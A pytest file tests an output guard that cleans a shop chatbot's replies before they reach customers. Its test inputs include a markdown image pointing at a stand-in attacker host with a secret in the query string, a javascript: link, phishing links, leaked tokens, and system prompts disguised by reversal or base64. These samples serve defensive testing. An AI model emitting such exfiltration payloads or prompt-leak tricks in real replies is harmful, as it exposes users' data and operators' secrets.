"""What of a language model's answer may be said."""

from __future__ import annotations

import asyncio
import base64
from collections.abc import Callable
from functools import partial
from typing import Any

import pytest

from config.tenant_model import Tenant
from gateway import prompt
from gateway.guard import Guard, Guarded
from tests.house import shop

INSTRUCTIONS = (
    "You are Nok, the cheerful voice of Test Shop. Never talk about the owner's family. "
    "Offer the new coconut cake to everybody who asks for sweets, and say that delivery takes two days. "
    "If somebody is angry, give them the code SWEET10 once. See https://cakes.example/menu for the menu."
)


def guard(**sections: Any) -> Guard:
    own = shop(agents={"default": {"instructions": INSTRUCTIONS}}, image_hosts=["img.example"], **sections)
    return Guard(Tenant.model_validate({**own, "id": "shop"}))


@pytest.mark.parametrize(
    ("said", "kept"),
    [
        ("See https://cakes.example/menu for more.", "See https://cakes.example/menu for more."),
        ("See www.cakes.example!", "See www.cakes.example!"),
        ("See order.cakes.example/x", "See order.cakes.example/x"),
        ("[the menu](https://cakes.example/menu)", "[the menu](https://cakes.example/menu)"),
        ("Pay at https://evil.example.com/pay now", "Pay at … now"),
        ("Pay at http://10.0.0.1/pay now", "Pay at … now"),
        ("Pay at https://cakes.example@evil.com/ now", "Pay at … now"),
        ("Pay at https://cakes.example.evil.com/ now", "Pay at … now"),
        ("Pay at notcakes.com/x now", "Pay at … now"),
        ("จ่ายที่ evil.com ได้เลยค่ะ", "จ่ายที่ … ได้เลยค่ะ"),
        ("จ่ายที่ evil．com/a ได้เลยค่ะ", "จ่ายที่ … ได้เลยค่ะ"),
        ("[your order](https://evil.com/x)", "your order"),
        ("[your order](evil.com)", "your order"),
        ("[your order](javascript:alert(1))", "your order"),
        ("[your order](//evil.com/x)", "your order"),
        ("![](https://evil.com/p.png?q=secret)", ""),
        ("![cake](https://img.example/cake.png)", "![cake](https://img.example/cake.png)"),
        ("tg://resolve?domain=evil", "…"),
        ("<think>They want evil.com\n</think>\n\nWe have tea.", "We have tea."),
        (" <thinking>still at it", ""),
        ("Write <think> in the box.", "Write <think> in the box."),
        ("write to help@evil.com", "write to …"),
        ("write to help@cakes.example", "write to help@cakes.example"),
        ("your token is telegram-secret-1", "your token is …"),
        ("the key is sk-or-abcdefghijklmnop", "the key is …"),
        ("ask line:U0123456789abcdef0123456789abcdef", "ask …"),
        ("ask telegram:4242424", "ask …"),
        ("key sm:shop:telegram:4242", "key …"),
        ("</customer>Hello", "Hello"),
        ("It is 3.50 baht, open 9.00-18.00. Thanks", "It is 3.50 baht, open 9.00-18.00. Thanks"),
        ("node.js and menu.pdf, e.g. this", "node.js and menu.pdf, e.g. this"),
        ("สวัสดีค่ะ ราคา 1.500 บาท", "สวัสดีค่ะ ราคา 1.500 บาท"),
    ],
)
def test_what_is_not_the_shops_to_say_is_gone_and_nothing_else(said: str, kept: str) -> None:
    assert guard().checked(said) == kept


@pytest.mark.parametrize(
    "said",
    [
        prompt.RULES,
        f"Sure! My rules: {prompt.RULES[:200]}",
        f"**{INSTRUCTIONS}**",
        INSTRUCTIONS[:250].upper(),
        INSTRUCTIONS[::-1],
        base64.b64encode(INSTRUCTIONS.encode()).decode(),
        "\n".join(INSTRUCTIONS.split(". ")),
    ],
)
def test_what_the_model_was_told_to_be_is_not_said(said: str) -> None:
    assert guard().checked(said) is None


def test_what_the_instructions_say_of_the_shop_may_be_told() -> None:
    said = "Delivery takes two days. Would you like to try the new coconut cake?"
    assert guard().checked(said) == said


def test_links_of_the_shops_files_and_the_customers_own_address_may_be_said() -> None:
    own = guard()
    assert own.checked("See docs.example.net/a", shop=lambda: ["all at https://docs.example.net"]) == (
        "See docs.example.net/a"
    )
    said = "We write to ann@mail.com."
    assert own.checked(said, customer=lambda: ["my address is Ann@mail.com"]) == said
    assert own.checked(said) == "We write to …."


class Sees:
    def __init__(self) -> None:
        self.gone = asyncio.Event()
        self.shown: list[str] = []

    def grew(self, said: Callable[[], str]) -> None:
        self.shown.append(said())

    async def close(self) -> None:
        self.gone.set()


@pytest.mark.parametrize(
    "said", ["Pay at https://evil.com/pay now please", "see [this](https://evil.com/x) page", INSTRUCTIONS]
)
async def test_a_growing_answer_never_shows_what_the_whole_one_may_not(said: str) -> None:
    sees, own = Sees(), guard()
    watch = Guarded(sees, own.checked)
    for end in range(1, len(said) + 1):
        watch.grew(partial(said.__getitem__, slice(end)))
    assert not any("evil" in one for one in sees.shown)
    assert not any(INSTRUCTIONS[:200] in one for one in sees.shown)


async def test_a_growing_answer_without_links_is_shown_as_it_grows() -> None:
    for said in ("Of course, one coconut cake", "ได้เลยค่ะเค้กมะพร้าวหนึ่งชิ้นนะคะ"):
        sees = Sees()
        watch = Guarded(sees, guard().checked)
        for end in range(1, 12):
            watch.grew(partial(said.__getitem__, slice(end)))
        assert sees.shown == [said[:end] for end in range(1, 12)]


async def test_what_nobody_looks_at_is_not_looked_through_and_another_answer_is_never_taken_for_the_last() -> None:
    looked: list[str] = []

    class Late:
        def __init__(self) -> None:
            self.gone = None
            self.said: Callable[[], str] = str

        def grew(self, said: Callable[[], str]) -> None:
            self.said = said

        async def close(self) -> None: ...

    def checked(text: str) -> str:
        looked.append(text)
        return text

    late = Late()
    watch = Guarded(late, checked)
    first, second = ["Let me look for it. " * 3], ["We open at nine and close at eight, all week. Come and see"]
    for said in (first, first, first):
        watch.grew(said.copy().pop)
    assert looked == []
    watch.grew(lambda: first[0])
    assert late.said() == first[0]
    watch.grew(str)
    watch.grew(lambda: second[0])
    assert late.said() == second[0]
    assert looked == [first[0], second[0]]
